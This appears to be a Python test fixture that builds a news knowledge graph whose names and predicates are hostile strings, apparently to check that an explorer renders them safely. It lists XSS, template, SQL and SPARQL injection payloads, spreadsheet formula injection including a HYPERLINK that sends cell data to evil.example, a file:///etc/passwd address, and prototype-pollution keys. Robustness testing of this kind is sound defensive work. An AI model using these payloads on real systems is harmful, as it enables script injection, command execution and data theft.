"""Names and texts of our own that try to be something other than text wherever an explorer shows them."""

from dataclasses import replace
from pathlib import Path

import hostile_world
from newsgraph.model import Claim, Entity, Kind, KnowledgeGraph, Position
from newsgraph.publish import write_folder

MARKUP = (
    *hostile_world.NAMES,
    "--><script>alert(11)</script><!--",
    "]]><script>alert(12)</script><![CDATA[",
    "*/alert(13)/*\n//# sourceMappingURL=https://evil.example/map",
    '"/><iframe srcdoc="<script>alert(14)</script>"></iframe>',
    "<math><mtext></p><style><!--</style><img src=x onerror=alert(15)>",
    "<base href=https://evil.example/><meta http-equiv=refresh content=0;url=https://evil.example/>",
    "\\u003cscript\\u003ealert(16)\\x3c/script\\x3e \\n \\0 \\",
    '","x":1}]</script>{"y":["',
    "&lt;script&gt;alert(17)&lt;/script&gt; &#60;u&#62; &nbsp; &bogus;",
    "{{constructor.constructor('alert(18)')()}} <%- 7*7 %> #{7*7} ${{7*7}} {{{7*7}}} [[7*7]]",
    "'; DROP TABLE articles; -- \" OR 1=1 /*",
    '?s ?p ?o . } UNION { GRAPH ?g { ?s ?p "x"@en } } # SELECT * WHERE {',
    '@prefix : <http://evil.example/> . :a :b "c"^^:d ; , [] ( ) _:x <<>>',
    "#node=1&view=table&find=<u>?x=%00%0a%0d",
    "url(https://evil.example/x.png) expression(alert(19)) @import 'https://evil.example/'; }",
    '#id .class > [a="b"]:nth-child(1), * ~ + \\',
)
"""Markup, script, templates, queries, addresses, styles and selectors."""

ADDRESSES = (
    "JaVaScRiPt:alert(21)",
    "java\tscript:alert(22)",
    "data:text/html,<script>alert(23)</script>",
    "vbscript:msgbox(24)",
    "//evil.example/",
    'https://evil.example/" onmouseover="alert(25)',
    "file:///etc/passwd",
)

CELLS = (
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    'one,two;three\t"four"\r\nfive',
)
"""What a spreadsheet would work out, or take for more than one cell."""

KEYS = (
    *("__proto__", "constructor", "toString", "hasOwnProperty", "valueOf", "then"),
    *("undefined", "null", "NaN", "0", "-1"),
)
"""Names that mean something to a script that keeps them as the keys of an object."""

WRITING = (
    "يوسف \u200fالبحر\u200e (ميناء) 123",
    "יוסי כהן, נמל-ים: 45%",
    "\u202eesrever \u2066isolated\u2069 \u2067never closed",
    "\u061cmarks\u200e\u200f of direction\u202d override",
    "zero\u200bwidth\u200c and\u200d joined\ufeff and\u2060 word\u00adhyphen",
    "Z\u0335\u0321\u0324\u0331" + "\u0315\u031b\u0340\u0341\u0358\u0322\u0327\u0328\u0334" * 12 + "algo",
    "e\u0301" * 40,
    "👩‍👩‍👧‍👦 👨🏿‍🚀 🏳️‍🌈 🇺🇦🇧🇷 🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f 1️⃣",
    "ﷺ𝕲𝖗𝖆𝖕𝖍 ＜ｓｃｒｉｐｔ＞ ‹b›",
    "\ufffd\ufffc\uffff\ue000\U0010ffff look like surrogates",
    "\u2800\u3164\u115f",
    "line\u2028separator\u2029paragraph\x85next",
    "bell\x07 back\x08\x08\x08 escape\x1b[31m red \x1b]8;;https://evil.example\x07 delete\x7f",
    "nul\x00 start\x01 unit\x1f record\x1e",
    "İstanbul ıI ß ﬃ ǅ Σίσυφος",
    "ทดสอบภาษาไทยที่ไม่มีช่องว่าง漢字かな交じり文",
    "a" * 10_000,
    "é" * 5_000 + "𝒳" * 5_000,
    "wide " * 2_000,
    "MW@%" * 60,
)
"""Directions, joiners, piles, controls and lengths."""

NAMES = tuple(dict.fromkeys((*MARKUP, *ADDRESSES, *CELLS, *KEYS, *WRITING)))


def hostile_graph() -> KnowledgeGraph:
    """Return a graph whose names, texts, addresses and relations are all of these; some of its places lie somewhere."""
    kg = hostile_world.hostile_graph(NAMES)
    return replace(
        kg,
        entities=tuple(_placed(entity, number % 60) for number, entity in enumerate(kg.entities)),
        claims=tuple(_claimed(claim, number) for number, claim in enumerate(kg.claims)),
    )


def hostile_folder(folder: Path) -> Path:
    """Make a graph folder of it, which can be served and written as a site."""
    write_folder(hostile_graph(), folder)
    return folder


def _claimed(claim: Claim, number: int) -> Claim:
    """Return some of the claims with predicates that mean something to a script."""
    words = ("__proto__", "constructor", "toString", "leads", "leads")[number % 5]
    return replace(claim, predicate=f"ng:{words}") if isinstance(claim.object, str) else claim


def _placed(entity: Entity, latitude: int) -> Entity:
    return replace(entity, position=Position(latitude, 2.5 * latitude)) if entity.kind is Kind.PLACE else entity
